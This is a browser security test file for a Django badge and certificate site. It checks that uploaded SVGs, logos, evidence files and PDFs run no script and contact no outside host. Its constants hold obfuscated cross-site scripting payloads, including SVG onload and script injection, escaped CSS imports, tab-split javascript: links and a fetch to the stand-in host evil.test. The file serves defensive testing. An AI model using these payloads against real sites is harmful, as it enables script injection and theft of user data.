"""Issue 8: user-made files never run as the site, opened in a real browser.

An organiser uploads a hostile SVG as a badge image (and tries the XHTML-rooted one and bad logos),
a learner uploads hostile evidence and writes hostile text into a certificate; then every kind of
served file (badge image, baked image, logo, evidence, PDF) is opened in Chromium. No script may run
(no dialog, no console message, the title unchanged) and no request may leave for another host.
A hostile SVG put straight into public storage, past the sanitiser, shows the headers alone hold.
"""

import io
from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.urls import reverse
from PIL import Image

from badges.models import Assertion, Quest, Task
from badges.tests.conftest import add_task, publish_activity
from certificates import services as certificate_services
from certificates.tests.factories import accepted, full_data, make_individual, make_project
from conftest import PASSWORD
from tests.browser.helpers import assert_accessible, assert_fits_phone, sign_in, sign_out

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SCRIPT = "alert('xss');console.log('xss');document.title='pwned';fetch('https://evil.test/steal')"
HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="120"'
    f' onload="{SCRIPT}">'
    f"<script>{SCRIPT}</script>"
    "<style>@\\69mport 'https://evil.test/a.css'; circle { fill: u\\72l(https://evil.test/fill.png) }</style>"
    '<circle cx="60" cy="60" r="50" style="stroke: u\\72l(https://evil.test/stroke.png)"/>'
    '<image xlink:href="https://evil.test/pixel.png" width="5" height="5"/>'
    f'<a href="java&#9;script:{SCRIPT}"><text y="20">click</text></a>'
    f'<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{SCRIPT}"/>'
    "</foreignObject></svg>"
)
XHTML_ROOTED = (
    '<?xml version="1.0"?><h:svg xmlns:h="http://www.w3.org/1999/xhtml" xmlns="http://www.w3.org/2000/svg">'
    f'<h:frameset><h:frame src="java&#9;script:{SCRIPT}"/></h:frameset></h:svg>'
)
HOSTILE_HTML = (
    f"<html><body onload=\"{SCRIPT}\"><script>{SCRIPT}</script><img src='https://evil.test/e.png'></body></html>"
)


class Watch:
    """Everything a page might do that it must not: dialogs, console messages, requests to other hosts."""

    def __init__(self, page, live_url):
        self.local = urlsplit(live_url).hostname
        self.dialogs, self.console, self.outside = [], [], []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: self.console.append(message.text))
        page.on("request", self._request)
        page.on("requestfailed", self._failed)
        self.blocked = []

    def _request(self, request):
        parts = urlsplit(request.url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in (self.local, "localhost"):
            self.outside.append(request.url)

    def _failed(self, request):
        # Chromium reports a request the Content-Security-Policy stopped as failed with "csp": it never left.
        if request.failure == "csp":
            self.blocked.append(request.url)

    def assert_quiet(self, page, *, headers_only: bool = False):
        """No script ran and nothing left. With headers_only (a file that skipped the sanitiser), requests
        may be attempted, but the file's Content-Security-Policy must have stopped every one."""
        assert self.dialogs == [], self.dialogs
        assert not [m for m in self.console if "xss" in m], self.console
        if headers_only:
            assert self.outside, "the raw hostile file tried nothing: the test proves nothing"
            assert sorted(self.outside) == sorted(self.blocked), (self.outside, self.blocked, page.url)
        else:
            assert self.outside == [], (self.outside, page.url)
        assert page.title() != "pwned"
        self.outside.clear()
        self.blocked.clear()


def png(size=(60, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, format="PNG")
    return buffer.getvalue()


def open_file(page, url, watch, *, headers_only=False):
    """Open a served file as a person following its link: images show, downloads download."""
    try:
        with page.expect_download(timeout=3000) as download:
            page.evaluate("url => { window.location.href = url }", url)
        download.value.path()  # the file is saved, never shown
    except Exception as exc:  # no download: the browser displayed it
        if "Timeout" not in type(exc).__name__ and "Timeout" not in str(exc):
            raise
        page.wait_for_load_state()
    page.wait_for_timeout(300)
    watch.assert_quiet(page, headers_only=headers_only)


def test_no_served_file_runs_script_or_fetches_outside(page, live_url, org, organiser, learner, tmp_path):
    org_admin = organiser  # the organiser changes the badge; the admin part (logo) uses the admin below
    from conftest import make_member
    from organisations.models import Role

    admin = make_member(org, "boss@acme.test", Role.ADMIN)
    activity = publish_activity(org, org_admin)
    badge = activity.badge
    watch = Watch(page, live_url)

    # The organiser tries the document of the report, then uploads the hostile SVG.
    sign_in(page, live_url, organiser.email, PASSWORD)
    edit_url = live_url + reverse("badges:badge_edit", kwargs={"org_slug": org.slug, "public_id": badge.public_id})
    page.goto(edit_url)
    xhtml = tmp_path / "frames.svg"
    xhtml.write_text(XHTML_ROOTED)
    page.get_by_label("Image").set_input_files(str(xhtml))
    page.get_by_role("button", name="Save badge").click()
    page.wait_for_load_state()
    assert page.get_by_text("This is not an SVG image.").is_visible()
    assert_accessible(page)
    assert_fits_phone(page)
    hostile = tmp_path / "badge.svg"
    hostile.write_text(HOSTILE_SVG)
    page.get_by_label("Image").set_input_files(str(hostile))
    page.get_by_role("button", name="Save badge").click()
    page.wait_for_load_state()
    badge.refresh_from_db()
    assert badge.image, "the cleaned SVG was not stored"
    sign_out(page, live_url)

    # The admin tries hostile logos, then uploads a real one.
    sign_in(page, live_url, admin.email, PASSWORD)
    page.goto(live_url + reverse("organisations:settings", kwargs={"org_slug": org.slug}))
    for name, content, message in [
        ("logo.png", HOSTILE_SVG.encode(), "could not be read"),
        ("logo.html", HOSTILE_HTML.encode(), "could not be read"),
    ]:
        attempt = tmp_path / name
        attempt.write_bytes(content)
        page.get_by_label("Logo").set_input_files(str(attempt))
        page.get_by_role("button", name="Save").click()
        page.wait_for_load_state()
        assert page.get_by_text(message).first.is_visible()
    assert_accessible(page)
    assert_fits_phone(page)
    real = tmp_path / "real.png"
    real.write_bytes(png() + HOSTILE_HTML.encode())  # bytes after IEND are dropped by the re-encoding
    page.get_by_label("Logo").set_input_files(str(real))
    page.get_by_role("button", name="Save").click()
    page.wait_for_load_state()
    org.refresh_from_db()
    assert org.logo
    sign_out(page, live_url)

    # The learner earns the badge through a file task, uploading hostile evidence.
    task = add_task(badge, organiser, approval=Task.Approval.SELF, evidence=Task.Evidence.FILE, title="Show it")
    Quest.objects.create(badge=badge, learner=learner)
    sign_in(page, live_url, learner.email, PASSWORD)
    page.goto(live_url + reverse("badges:quest", kwargs={"public_id": badge.public_id}))
    evidence = tmp_path / "notes.txt"
    evidence.write_text(HOSTILE_HTML)
    page.get_by_label("File").set_input_files(str(evidence))
    page.get_by_role("button", name="Submit evidence").click()
    page.wait_for_load_state()
    submission = task.submissions.get()
    assertion = Assertion.objects.get(badge=badge, recipient=learner)

    # A certificate whose learner-written text is hostile.
    individual = accepted(
        make_individual(make_project(org), email=learner.email),
        learner,
        organiser,
        data=full_data(competence_personal=HOSTILE_HTML, evidence_1_url="https://evil.test/pdf"),
    )
    certificate = certificate_services.certificate_generate(individual=individual, generated_by=organiser)
    certificate.refresh_from_db()
    assert certificate.pdf, "the PDF did not render"

    # A hostile SVG placed in public storage past every check: the headers alone must hold.
    raw = storages["public"].save("logos/raw.svg", ContentFile(HOSTILE_SVG.encode()))
    raw_xhtml = storages["public"].save("logos/raw-frames.svg", ContentFile(XHTML_ROOTED.encode()))

    served = [
        reverse("badges:badge_image", kwargs={"public_id": badge.public_id}),
        reverse("badges:assertion_image", kwargs={"public_id": assertion.public_id}),
        reverse("badges:assertion_image", kwargs={"public_id": assertion.public_id}) + "?download=1",
        org.logo.url,
        reverse("badges:evidence_file", kwargs={"public_id": submission.public_id}),
        reverse("certificates:learner_download", kwargs={"code": certificate.code}),
    ]
    page.goto(live_url + reverse("me"))
    for path in served:
        open_file(page, live_url + path, watch)
    open_file(page, live_url + reverse("public_file", kwargs={"name": raw}), watch, headers_only=True)
    open_file(page, live_url + reverse("public_file", kwargs={"name": raw_xhtml}), watch)
    # The pages that show these images and links run nothing either.
    for path in (
        reverse("me"),
        assertion.get_absolute_url(),
        reverse("badges:organisation", kwargs={"org_slug": org.slug}),
    ):
        page.goto(live_url + path)
        page.wait_for_timeout(300)
        watch.assert_quiet(page)
